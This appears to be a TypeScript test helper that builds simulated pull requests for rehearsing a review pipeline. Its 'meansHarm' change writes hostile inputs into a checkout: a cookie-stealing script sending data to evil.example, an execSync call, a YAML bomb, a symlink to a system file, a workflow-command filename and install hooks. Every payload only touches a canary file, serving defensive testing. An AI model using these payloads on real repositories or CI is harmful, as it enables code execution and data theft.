/** Three changes for the rehearsal: one adds a case, one corrects a finding, one means harm. */
import { readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse, parseDocument } from 'yaml';
import { splitFrontmatter } from '../../src/casefile/split.ts';
import type { CaseFrontmatter } from '../../src/core/schema.ts';
import { acceptAnswers } from '../lib/accept-answers.ts';
import { allContent } from '../lib/content.ts';
import { TIE_HEADING } from './description.ts';

/** Adds a case, with its row in the register. */
export function addsCase(slug: string, text: string, description: string): Change {
  return {
    name: 'adds-a-case', description, make: (root) => {
      writeFileSync(join(root, `content/cases/${slug}.mdx`), text);
      const path = join(root, 'content/register.yml');
      const document = parseDocument(readFileSync(path, 'utf8'));
      const split = splitFrontmatter(text);
      if ('issue' in split) throw new Error(split.issue.message);
      const { name, sector, sources, status, timeline } = parse(split.yaml, { version: '1.2', schema: 'core' }) as CaseFrontmatter;
      const launch = timeline.find(({ stage }) => stage === 'launch');
      document.setIn(['sources', status.source], sources[status.source]);
      document.setIn(['rows', slug], {
        name, sector, ...(launch && { launched: launch.date }), status: status.now, status_as_of: status.as_of, ...(status.on && { ended: status.on, cause: 'not-given' }), source: status.source, says: status.says, case: slug,
      });
      writeFileSync(path, document.toString({ lineWidth: 0 }));
    },
  };
}

/** Corrects the direction of a finding; whoever does it adds themselves to the authors, with their tie. */
export function correctsFinding({ slug, finding, from, to, author }: { slug: string; finding: string; from: string; to: string; author: { name: string; interest: string } }, description: string): Change {
  return {
    name: 'corrects-a-finding', description, make: async (root) => {
      const path = join(root, `content/cases/${slug}.mdx`);
      const text = readFileSync(path, 'utf8');
      const start = text.indexOf(`id: ${finding}\n`);
      const place = text.indexOf(`direction: ${from}\n`, start);
      if (start < 0 || place < 0) throw new Error(`${slug} has no such finding.`);
      const corrected = `${text.slice(0, place)}direction: ${to}\n${text.slice(place + `direction: ${from}\n`.length)}`;
      writeFileSync(path, corrected.replace('\nauthors:\n', `\nauthors:\n  - name: ${author.name}\n    interest: ${author.interest}\n`));
      // Where an answer turns, whoever turned it reads its commentary again: `npm run check -- --accept-answers`.
      const content = join(root, 'content');
      await acceptAnswers(await allContent(content), content, (file) => file);
    },
  };
}

/**
 * A script in a body, YAML that explodes, a link out of the folder, a name that would be a command to the runner, and scripts,
 * packages and workflow of its own, each of which would leave a canary where it is run.
 */
export function meansHarm(plain: string): Change {
  const canary = 'touch "$CANARY"';
  const script = "import { writeFileSync } from 'node:fs'; writeFileSync(process.env.CANARY, 'ran');\n";
  return {
    name: 'means-harm',
    description: `## ${TIE_HEADING}\n\nnone <script>alert(1)</script> @everyone [see](https://evil.example) ![](https://evil.example/x.png)`,
    make: (root) => {
      const write = (path: string, text: string) => writeFileSync(join(root, path), text);
      write('content/cases/script-in-body.mdx', `${plain.replace(/^name: .*$/m, 'name: "Care </code><script>alert(1)</script> `x` @everyone"')}\n<script>fetch("https://evil.example/" + document.cookie)</script>\n\n{process.mainModule.require("child_process").execSync("touch $CANARY")}\n`);
      write('content/cases/yaml-bomb.mdx', plain.replace('---\n', `---\na: &a [lol, lol]\n${[...'bcdefghi'].map((name, index) => `${name}: &${name} [${Array.from({ length: 9 }, () => `*${'abcdefgh'[index]}`).join(', ')}]`).join('\n')}\n`));
      write('content/cases/module.mdx', plain.replace(/\n## /, '\nimport "../../scripts/evil.mjs"\n\nexport const x = (() => { process.exit(0) })()\n\n## '));
      symlinkSync('/etc/hostname', join(root, 'content/cases/link.mdx'));
      write('content/cases/a\n::error file=x::b.mdx', plain);
      write('scripts/evil.mjs', script);
      for (const path of ['scripts/review-change.ts', 'scripts/review-preview.ts', 'scripts/check.ts', 'scripts/install.mjs', 'astro.config.mjs']) write(path, script);
      const { scripts, ...settings } = JSON.parse(readFileSync(join(root, 'package.json'), 'utf8')) as { scripts: Record<string, string> };
      write('package.json', `${JSON.stringify({ ...settings, scripts: { ...Object.fromEntries(Object.keys(scripts).map((name) => [name, canary])), preinstall: canary, postinstall: canary } }, null, 2)}\n`);
      write('.github/workflows/review.yml', `on: pull_request\npermissions: write-all\njobs:\n  review:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ${canary}\n`);
      write('.gitattributes', '* filter=evil\n');
    },
  };
}

export interface Change {
  /** Also the name of its branch. */
  name: string;
  /** Of the pull request. */
  description: string;
  /** Makes the change in a checkout. */
  make: (root: string) => void | Promise<void>;
}
